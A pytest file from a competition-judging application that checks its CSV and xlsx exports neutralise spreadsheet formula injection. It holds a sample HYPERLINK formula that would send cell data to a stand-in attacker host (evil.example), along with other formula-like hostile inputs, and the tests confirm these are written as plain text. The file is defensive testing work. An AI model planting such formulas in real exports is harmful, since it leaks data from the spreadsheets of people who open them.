"""Formula injection: text typed by judges, participants and organisers stays text in every
xlsx and CSV export (replaying the HYPERLINK probe on the rekap nilai)."""

from __future__ import annotations

import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from sayembara.documents.services.papers import rekap_xlsx
from sayembara.judging.enums import JuryRole
from sayembara.judging.models import Score
from sayembara.ranking.cells import csv_cell, is_formula_like, read_csv_cell
from tests import factories_public as f

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C2,"Lihat bukti")'
SRC = Path(__file__).resolve().parents[2] / "src" / "sayembara"


@pytest.mark.parametrize("text", [HYPERLINK, "+62 811 000", "-2+3", "@SUM(A1:A9)",
                                  "\t=1+1", "\r=1+1"])
def test_csv_cell_puts_formula_like_text_behind_an_apostrophe_and_reads_it_back(text):
    written = csv_cell(text)
    assert written == "'" + text
    assert read_csv_cell(written) == text


@pytest.mark.parametrize("value", ["-1.5", "+3", "-0,25", "1e3", "Inovasi =baru", "'kutip"])
def test_numbers_and_ordinary_text_are_written_unchanged(value):
    assert not is_formula_like(value)
    assert csv_cell(value) == value
    assert read_csv_cell(value) == value


def test_rekap_nilai_writes_comments_titles_and_names_as_text(settings):
    f.reset_public_state(settings)
    edition = f.public_edition()
    stage = edition.stages.order_by("order").first()
    category = edition.categories.order_by("order").first()
    category.name = "@Kategori"
    category.save(update_fields=["name"])
    judge = f.judge(edition, name="=Juri Satu")
    f.panel(stage, [(judge, JuryRole.KETUA)])
    entry = f.entry(edition, category=category, title="=1+1")
    entry.institution.name = "+Dinas"
    entry.institution.save(update_fields=["name"])
    keys = [c.key for c in stage.rubric_for(category.pk).criteria.all()]
    sheet = f.sheet(stage, judge, entry, {key: 70 for key in keys})
    Score.objects.filter(sheet=sheet).update(comment=HYPERLINK)
    result = f.stage_result(stage, entry, score="70", rank=1, advanced=True)
    # A reason kept as the sentence it was written in, before reasons became codes.
    result.reason_code, result.reason_params = "text", {"text": "-alasan"}
    result.save(update_fields=["reason_code", "reason_params"])
    f.final_result(entry, rank=1, total="70", tier_key="peringkat-1-3",
                   prize=Decimal("5000000"))

    data = rekap_xlsx(edition=edition)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = "".join(archive.read(name).decode() for name in archive.namelist()
                      if name.startswith("xl/worksheets/"))
    assert re.search(r"<f[ >]", xml) is None  # no formula anywhere
    book = load_workbook(io.BytesIO(data))
    hostile = {"=1+1", "+Dinas", "@Kategori", "=Juri Satu", HYPERLINK, "-alasan"}
    found = {}
    for worksheet in book.worksheets:
        for row in worksheet.iter_rows():
            for cell in row:
                if cell.value in hostile:
                    found[cell.value] = (cell.data_type, cell.quotePrefix)
    assert found == dict.fromkeys(hostile, ("s", True))


#: Modules that write CSV only for the project's own reader, never for a person to open.
READ_BACK = {
    # the API's import rows (JSON) go through the spreadsheet import's reader and checks
    "api/organiser.py",
}


def test_every_exporter_writes_through_the_cells_helper():
    """Any module that writes a CSV file or an xlsx workbook uses sayembara.ranking.cells."""
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|xlsxwriter")
    helpers = re.compile(r"\b(csv_cell|xlsx_row)\b")
    missing = []
    exporters = []
    for module in sorted(SRC.rglob("*.py")):
        text = module.read_text()
        if module.name == "cells.py" or not writers.search(text) \
                or module.relative_to(SRC).as_posix() in READ_BACK:
            continue
        exporters.append(module.relative_to(SRC).as_posix())
        if not helpers.search(text):
            missing.append(module.relative_to(SRC).as_posix())
    assert missing == []
    assert {"ranking/bundle.py", "documents/services/papers.py"} <= set(exporters)


def test_results_bundle_writes_a_hostile_reason_as_text_and_still_recomputes(tmp_path):
    from sayembara.judging.services.bundle import export_edition_bundle
    from sayembara.judging.services.closing import close_stage, decide_entry
    from sayembara.ranking.bundle import verify_bundle
    from tests.factories_judging import scored_stage
    from tests.judging.test_bundle_export import _fractional, _score_all

    edition, stage, entries, judges = scored_stage(entries_per_category=3, judges=3, top_n=2)
    _score_all(stage, entries, judges, _fractional)
    close_stage(stage=stage, actor="s", bootstrap=0)
    third = [e for e in entries if e.category.key == "opd"][2]
    decide_entry(stage=stage, entry=third, decision="advance", reason=HYPERLINK, actor="s")
    edition.refresh_from_db()
    out = tmp_path / "bundle"
    export_edition_bundle(edition=edition, out_dir=out, actor="s")
    decisions = (out / "inputs" / "decisions.csv").read_text()
    assert "advance,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&C2" in decisions
    check = verify_bundle(out)
    assert check.identical, check.difference
